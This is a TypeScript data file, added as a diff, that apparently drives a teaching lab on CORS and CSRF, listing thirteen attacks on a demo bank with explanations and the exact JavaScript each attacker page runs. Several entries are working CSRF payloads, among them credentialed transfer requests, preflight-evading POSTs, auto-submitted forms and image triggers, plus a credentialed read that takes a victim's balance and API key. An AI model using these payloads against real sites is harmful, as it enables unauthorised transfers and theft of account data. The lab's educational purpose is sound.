@@ -1,0 +1,286 @@
+// Every attack, as data. `code` is the exact text the attacker's page runs and displays:
+// an async function of `{ bank, probe }` (the bank's base URL for one configuration, and a
+// unique id the bank's ledger records) that returns what the attacker's script ends up
+// holding. `request` describes that same request in the terms of the Fetch standard, for
+// the rule engine that predicts the outcome without a browser.
+
+export type AttackId =
+  | 'xhr-get-transfer'
+  | 'xhr-get-transfer-credentials'
+  | 'fetch-read-account'
+  | 'fetch-read-public'
+  | 'fetch-post-text'
+  | 'fetch-post-form'
+  | 'fetch-post-json'
+  | 'fetch-put'
+  | 'fetch-custom-header'
+  | 'no-cors-post'
+  | 'form-post'
+  | 'link-get'
+  | 'img-get';
+
+/** The bank endpoint an attack aims at. */
+export type Endpoint = 'transfer' | 'account' | 'public';
+
+export interface AttackRequest {
+  /** How the script makes the request. */
+  api: 'fetch' | 'xhr' | 'img' | 'window-open' | 'form';
+  method: 'GET' | 'POST' | 'PUT';
+  /** Fetch request mode (Fetch §2.2.5). */
+  mode: 'cors' | 'no-cors' | 'navigate';
+  /** Fetch credentials mode; XHR maps withCredentials to `include`, else `same-origin`. */
+  credentials: 'omit' | 'same-origin' | 'include';
+  /** The request's Content-Type, if it has a body. */
+  contentType: string | null;
+  /** Request headers the script sets besides Content-Type. */
+  extraHeaders: readonly string[];
+  /** Fetch request destination, as `Sec-Fetch-Dest` reports it. */
+  destination: 'empty' | 'image' | 'document';
+  endpoint: Endpoint;
+}
+
+export interface Attack {
+  id: AttackId;
+  title: string;
+  whatGoesWrong: string;
+  request: AttackRequest;
+  code: string;
+}
+
+const transferBody = "{ routing: '555', account: '1234', amount: '1' }";
+
+export const attacks: readonly Attack[] = [
+  {
+    id: 'xhr-get-transfer',
+    title: 'The blog’s XMLHttpRequest to /transfer_to',
+    whatGoesWrong:
+      'It arrives at the bank, but without withCredentials no cookie rides along: the bank sees a stranger.',
+    request: {
+      api: 'xhr', method: 'GET', mode: 'cors', credentials: 'same-origin',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  // The seed's request, exactly as the blog describes it.
+  const xhr = new XMLHttpRequest();
+  xhr.open('GET', bank + '/transfer_to/555/1234/1?probe=' + probe);
+  xhr.send();
+  await new Promise((done) => { xhr.onloadend = done; });
+  return xhr;
+}`,
+  },
+  {
+    id: 'xhr-get-transfer-credentials',
+    title: 'The same XMLHttpRequest with withCredentials',
+    whatGoesWrong:
+      'A simple GET: no preflight, so it arrives with every cookie SameSite and the third-party policy allow, and moves money.',
+    request: {
+      api: 'xhr', method: 'GET', mode: 'cors', credentials: 'include',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  const xhr = new XMLHttpRequest();
+  xhr.open('GET', bank + '/transfer_to/555/1234/1?probe=' + probe);
+  xhr.withCredentials = true;
+  xhr.send();
+  await new Promise((done) => { xhr.onloadend = done; });
+  return xhr;
+}`,
+  },
+  {
+    id: 'fetch-read-account',
+    title: 'Read the victim’s account (credentials: include)',
+    whatGoesWrong:
+      'Steals balance and API key wherever the bank reflects the origin with credentials and the cookie rides along.',
+    request: {
+      api: 'fetch', method: 'GET', mode: 'cors', credentials: 'include',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'account',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/account?probe=' + probe, { credentials: 'include' });
+}`,
+  },
+  {
+    id: 'fetch-read-public',
+    title: 'Read public data (no credentials)',
+    whatGoesWrong:
+      'Harmless by design: `*` exists for exactly this. Shows that CORS decides reads, not cookies.',
+    request: {
+      api: 'fetch', method: 'GET', mode: 'cors', credentials: 'same-origin',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'public',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/rates?probe=' + probe);
+}`,
+  },
+  {
+    id: 'fetch-post-text',
+    title: 'POST JSON disguised as text/plain',
+    whatGoesWrong:
+      'text/plain is a simple request: no preflight. The lenient bank parses the JSON anyway and moves money.',
+    request: {
+      api: 'fetch', method: 'POST', mode: 'cors', credentials: 'include',
+      contentType: 'text/plain;charset=UTF-8', extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/transfer?probe=' + probe, {
+    method: 'POST',
+    credentials: 'include',
+    body: JSON.stringify(${transferBody}), // a string body is sent as text/plain
+  });
+}`,
+  },
+  {
+    id: 'fetch-post-form',
+    title: 'POST a url-encoded form with fetch()',
+    whatGoesWrong:
+      'Form encoding is a simple request: no preflight, so the write lands even where the answer can’t be read.',
+    request: {
+      api: 'fetch', method: 'POST', mode: 'cors', credentials: 'include',
+      contentType: 'application/x-www-form-urlencoded;charset=UTF-8', extraHeaders: [],
+      destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/transfer?probe=' + probe, {
+    method: 'POST',
+    credentials: 'include',
+    body: new URLSearchParams(${transferBody}),
+  });
+}`,
+  },
+  {
+    id: 'fetch-post-json',
+    title: 'POST application/json',
+    whatGoesWrong:
+      'application/json is not a simple content type: the browser asks first (preflight), and only a permissive bank says yes.',
+    request: {
+      api: 'fetch', method: 'POST', mode: 'cors', credentials: 'include',
+      contentType: 'application/json', extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/transfer?probe=' + probe, {
+    method: 'POST',
+    credentials: 'include',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify(${transferBody}),
+  });
+}`,
+  },
+  {
+    id: 'fetch-put',
+    title: 'PUT a transfer',
+    whatGoesWrong:
+      'PUT is never simple: the preflight must allow the method, so the default @fastify/cors methods refuse it.',
+    request: {
+      api: 'fetch', method: 'PUT', mode: 'cors', credentials: 'include',
+      contentType: 'application/json', extraHeaders: [], destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/transfer?probe=' + probe, {
+    method: 'PUT',
+    credentials: 'include',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify(${transferBody}),
+  });
+}`,
+  },
+  {
+    id: 'fetch-custom-header',
+    title: 'Read the account with a custom header',
+    whatGoesWrong:
+      'A custom header forces a preflight; a bank that reflects requested headers lets it through anyway.',
+    request: {
+      api: 'fetch', method: 'GET', mode: 'cors', credentials: 'include',
+      contentType: null, extraHeaders: ['x-requested-with'], destination: 'empty', endpoint: 'account',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/account?probe=' + probe, {
+    credentials: 'include',
+    headers: { 'X-Requested-With': 'XMLHttpRequest' },
+  });
+}`,
+  },
+  {
+    id: 'no-cors-post',
+    title: 'Fire-and-forget POST (mode: no-cors)',
+    whatGoesWrong:
+      'The script gets an opaque response and reads nothing — but the POST, with its cookies, has already landed.',
+    request: {
+      api: 'fetch', method: 'POST', mode: 'no-cors', credentials: 'include',
+      contentType: 'application/x-www-form-urlencoded;charset=UTF-8', extraHeaders: [],
+      destination: 'empty', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  return fetch(bank + '/transfer?probe=' + probe, {
+    method: 'POST',
+    mode: 'no-cors',
+    credentials: 'include',
+    body: new URLSearchParams(${transferBody}),
+  });
+}`,
+  },
+  {
+    id: 'form-post',
+    title: 'An auto-submitted HTML form',
+    whatGoesWrong:
+      'Classic CSRF: a top-level POST navigation. CORS never applies to it; SameSite=Lax stops the cookie, the server’s checks stop the write.',
+    request: {
+      api: 'form', method: 'POST', mode: 'navigate', credentials: 'include',
+      contentType: 'application/x-www-form-urlencoded', extraHeaders: [],
+      destination: 'document', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  // The form opens in a new window, so this page stays to report.
+  const popup = window.open('about:blank', 'form-' + probe);
+  const form = document.createElement('form');
+  form.method = 'POST';
+  form.action = bank + '/transfer?probe=' + probe;
+  form.target = 'form-' + probe;
+  for (const [name, value] of Object.entries(${transferBody})) {
+    const input = document.createElement('input');
+    input.type = 'hidden';
+    input.name = name;
+    input.value = value;
+    form.append(input);
+  }
+  document.body.append(form);
+  form.submit();
+  form.remove();
+  return popup;
+}`,
+  },
+  {
+    id: 'link-get',
+    title: 'A top-level GET navigation to /transfer_to',
+    whatGoesWrong:
+      'A link the victim follows. Top-level GET navigations carry Lax cookies, and third-party blocking does not apply.',
+    request: {
+      api: 'window-open', method: 'GET', mode: 'navigate', credentials: 'include',
+      contentType: null, extraHeaders: [], destination: 'document', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  return window.open(bank + '/transfer_to/555/1234/1?probe=' + probe);
+}`,
+  },
+  {
+    id: 'img-get',
+    title: 'An <img> pointed at /transfer_to',
+    whatGoesWrong:
+      'The oldest CSRF: an image request is a no-cors GET. The script only learns “load” or “error”.',
+    request: {
+      api: 'img', method: 'GET', mode: 'no-cors', credentials: 'include',
+      contentType: null, extraHeaders: [], destination: 'image', endpoint: 'transfer',
+    },
+    code: `async ({ bank, probe }) => {
+  const img = new Image();
+  img.src = bank + '/transfer_to/555/1234/1?probe=' + probe;
+  await new Promise((done) => { img.onload = img.onerror = done; });
+  return img;
+}`,
+  },
+];
+
+export function attack(id: AttackId): Attack {
+  const found = attacks.find((a) => a.id === id);
+  if (!found) throw new Error(`unknown attack ${id}`);
+  return found;
+}
